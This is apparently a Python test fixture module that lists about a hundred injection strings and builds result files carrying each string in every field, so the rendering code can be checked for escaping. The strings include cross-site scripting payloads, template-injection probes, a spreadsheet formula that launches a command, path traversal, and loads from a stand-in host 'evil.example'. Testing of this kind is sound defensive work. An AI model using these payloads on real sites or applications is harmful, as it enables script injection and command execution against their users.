"""Texts of attackers, and LAST files that hold one of them in every place where a text can stand."""

from typing import Any

from altlas_runner.last_file import LastFile
from altlas_runner.results import Artifact, Attempt, TaskResult, Usage
from altlas_runner.statuses import TaskStatus
from tests.last_file.fabricate import START, alt_file, at, gathered

HOSTILE = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</pre><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<style>*{display:none}</style>", '"><svg onload=alert(1)>', "'><svg onload=alert(1)>", '" onclick="alert(1)',
    "' onmouseover='alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>", "<!--", "-->", "<![CDATA[",
    "]]>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//e>",
    "{{ 7*7 }}", "{% raw %}", "{{ config }}", "{# hidden #}", "${7*7}", "#{7*7}", "&lt;script&gt;", "&#60;script&#62;",
    "%3Cscript%3E", "</svg><script>alert(1)</script>", "</text></a></g></svg><img src=//evil.example>",
    "</details></section><h1>You won</h1>", "</textarea><x>", "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "\x00<b>\x1b[31m", "\u202etxt.exe", "a\u2028b\u2029c", "``` <b> ```", "<?php echo 1 ?>", "\ufeff<b>",
    "<svg><use href=//evil.example#x>", "<link rel=stylesheet href=//evil.example>", "x\" style=\"color:red",
    "<object data=//evil.example>", "<bdi></bdi></bdi></dd>", "[click](javascript:alert(1))", "=cmd|' /C calc'!A0",
    "<img src=//evil.example/x.png>", "<video><source onerror=alert(1)>", "<audio src=//evil.example onerror=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math href=javascript:alert(1)>x</math>", "<embed src=//evil.example>", "<frameset onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</noscript><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script>",
    "<plaintext>", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
    "jaVasCript:alert(1)",
    "\tjavascript:alert(1)", "java\nscript:alert(1)", "vbscript:msgbox(1)", "file:///etc/hosts",
    "https://evil.example/", "//evil.example/x",
    "';alert(1)//", '";alert(1)//', "`;alert(1)//", "${alert(1)}", "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)", "</script>",
    "<script src=//evil.example/x.js></script>", "<script type=module>import '//evil.example/x.js'</script>",
    "*{background:url(//evil.example)}",
    "@import url(//evil.example);", "expression(alert(1))", "__proto__", "constructor", "toString", "hasOwnProperty",
    "#task=a", "task=@0", "@1",
    "?x=1&q=<script>", "%00", "%", "%E0%A4%A", "..\\..\\x", "../../x", "CON",
    "<!doctype html><script>alert(1)</script>", "\u2066\u2067\u2069x", "\U000e0001\U000e0041",
]  # fmt: skip


def hostile_last_file(text: str) -> LastFile:
    """A LAST file that has the text in every place where a text can stand."""
    other = f"{text} (2)"
    tasks: list[dict[str, Any]] = [
        {"id": text, "description": text, "tags": [text], "parameters": {text: [text, {text: text}]}},
        {"id": other, "description": text, "dependencies": [text, f"{text} (3)"]},
        {"id": f"{text} (4)", "description": text, "dependencies": [other]},
    ]
    fields = {"id": text, "title": text, "description": text, "persona": text, "metadata": {text: text}}
    attempts = [
        Attempt(1, START, at(1), TaskStatus.FAILED, text, text),
        Attempt(2, at(2), at(3), TaskStatus.FAILED, text, text, 1000),
    ]
    artifact = Artifact(text, "text", text, 3, text, text, text, {text: text, "preview": {"text": text}})
    results = [
        TaskResult(text, TaskStatus.COMPLETED, {"text": text, text: text}, artifacts=[artifact], started_at=START),
        TaskResult(other, TaskStatus.FAILED, None, text, text, attempts=attempts, usage=Usage(1, 2), started_at=START),
        TaskResult(f"{text} (4)", TaskStatus.SKIPPED, {text: [text]}, text, text),
        TaskResult(f"{text} (5)", TaskStatus.CANCELLED, text, text, metadata={text: text}),
    ]
    last_file = gathered(alt_file(tasks, **fields), results)
    last_file.id = last_file.mode = last_file.version = text
    last_file.metadata["runner"]["warnings"] = [text]
    last_file.metadata["runner"]["versions"] = {text: text}
    last_file.metadata["runner"]["selection"] = [text]
    return last_file


def last_file_of_all(texts: list[str]) -> LastFile:
    """One LAST file that has all of the texts: each in the fields of tasks of its own, and all of them in its own."""
    many = " | ".join(texts)
    tasks: list[dict[str, Any]] = []
    results: list[TaskResult] = []
    for number, text in enumerate(texts):
        part = hostile_last_file(text)
        names = {note["id"]: f"{note['id']} ({number})" for note in part.metadata["runner"]["tasks"]}
        tasks += [
            {**note, "id": names[note["id"]], "dependencies": [names.get(d, d) for d in note["dependencies"]]}
            for note in part.metadata["runner"]["tasks"]
        ]
        for result in part.task_results:
            result.task_id = names.get(result.task_id, f"{result.task_id} ({number})")
        results += part.task_results
    last_file = gathered(alt_file(tasks, title=many, description=many, persona=many, metadata={many: texts}), results)
    last_file.metadata["runner"]["warnings"] = texts
    last_file.metadata["runner"]["provenance"] = {"alt_file_path": texts[0], many: many}
    return last_file
